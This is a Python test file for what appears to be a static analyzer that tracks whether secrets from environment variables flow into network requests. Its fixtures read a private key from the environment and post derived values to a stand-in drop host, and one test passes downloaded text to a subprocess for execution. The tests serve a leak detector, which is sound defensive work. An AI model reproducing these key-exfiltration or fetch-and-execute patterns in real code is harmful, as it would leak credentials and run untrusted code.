"""What is made of a secret and tells nothing of it, and what still does."""

from __future__ import annotations

import pytest

from pinfold.language.context import Context
from pinfold.language.python import program as python
from pinfold.model import ActKind, Place

KEY = "import os, hmac, hashlib, jwt, requests\nkey = os.environ['ACME_PRIVATE_KEY']\nname = os.environ['ACME_NAME']\n"
SEND = "requests.post('https://drop.example/u', json={'v': v})\n"


def sent(source: str) -> str:
    """Return what the connections of a program carry."""
    found = python.acts(source, Context(place=lambda start, end: Place("x.py", line=start, column=end)))
    return " ".join(str(act.fields.get("SentData", "")) for act in found if act.kind is ActKind.CONNECT).strip()


@pytest.mark.parametrize(
    "made",
    [
        "v = hashlib.sha256(key.encode()).hexdigest()",
        "h = hashlib.sha256()\nh.update(key.encode())\nv = h.hexdigest()",
        "v = hmac.new(key.encode(), b'now', 'sha256').digest()",
        "from wallet import Pair\npair = Pair.from_bytes(bytes.fromhex(key))\nv = str(pair.pubkey())",
        "from wallet import Pair\npair = Pair.from_bytes(bytes.fromhex(key))\nv = pair.public_key.to_base58()",
        "from wallet import Pair\npair = Pair.from_bytes(key)\nv = pair.sign_message(f'I am {pair.pubkey()}'.encode())",
        "from chain import account\nv = account.sign_transaction({'to': 1}, key)",
        "v = jwt.encode({'sub': 'me'}, key)",
        "from maker import helper\nv = helper.run(['tool'], env=os.environ)",
        "from chain import Account\nv = Account.from_key(key).address",
        "from openai import OpenAI\nclient = OpenAI(api_key=key)\nv = client.chat.completions.create(model='m')",
    ],
)
def test_the_secret_ends_where_it_is_sealed(made: str) -> None:
    assert sent(f"{KEY}{made}\n{SEND}") == ""


@pytest.mark.parametrize(
    ("made", "told"),
    [
        ("v = jwt.encode({'sub': name}, key)", "env:ACME_NAME"),
        ("from wallet import Pair\nv = Pair.from_bytes(key).sign_message(name)", "env:ACME_NAME"),
        ("v = hashlib.sha256(key.encode()).hexdigest() + key", "env:ACME_PRIVATE_KEY"),
        ("from cipher import Box\nv = Box(key).seal(name)", "env:ACME_NAME"),
        ("from wallet import Pair\nv = Pair.from_bytes(key).to_json()", "env:ACME_PRIVATE_KEY"),
        ("def sign(x):\n    return x\nv = sign(key)", "env:ACME_PRIVATE_KEY"),
        ("class Box:\n    def sign(self, x):\n        return x\nv = Box().sign(key)", "env:ACME_PRIVATE_KEY"),
        ("from letters import Mail\nv = Mail(subject=key)", "env:ACME_PRIVATE_KEY"),
    ],
)
def test_what_is_not_sealed_goes_on(made: str, told: str) -> None:
    assert told in sent(f"{KEY}{made}\n{SEND}").split()


def test_a_name_of_the_caller_is_not_the_same_name_in_the_function_that_is_called() -> None:
    source = f"{KEY}def tell():\n    {SEND}def main():\n    v = key\n    tell()\nmain()\n"
    assert sent(source) == ""


@pytest.mark.parametrize(
    "source",
    [
        f"def main():\n    v = key\n    def tell():\n        {SEND}    tell()\nmain()\n",
        f"class Box:\n    v = 'a'\n    def tell(self):\n        {SEND}v = key\nBox().tell()\n",
        f"def tell(v):\n    {SEND}def main():\n    w = key\n    tell(w)\nmain()\n",
    ],
)
def test_a_function_sees_the_names_around_it_and_what_it_is_given(source: str) -> None:
    assert sent(f"{KEY}{source}") == "env:ACME_PRIVATE_KEY"


def test_what_a_program_of_unknown_name_is_told_is_not_what_it_executes() -> None:
    start = "import requests, subprocess\ntext = requests.get('https://a.example/x').text\n"
    context = Context(place=lambda start, end: Place("x.py", line=start, column=end))
    acts = python.acts(f"{start}def run(tool):\n    subprocess.run([tool, 'add', text])\n", context)
    assert not [act for act in acts if act.kind is ActKind.EXEC and "PipedFrom" in act.fields]
    acts = python.acts(f"{start}def run(tool):\n    subprocess.run([tool, '-c', text])\n", context)
    assert [act for act in acts if act.kind is ActKind.EXEC and act.fields.get("PipedFrom") == "requests"]
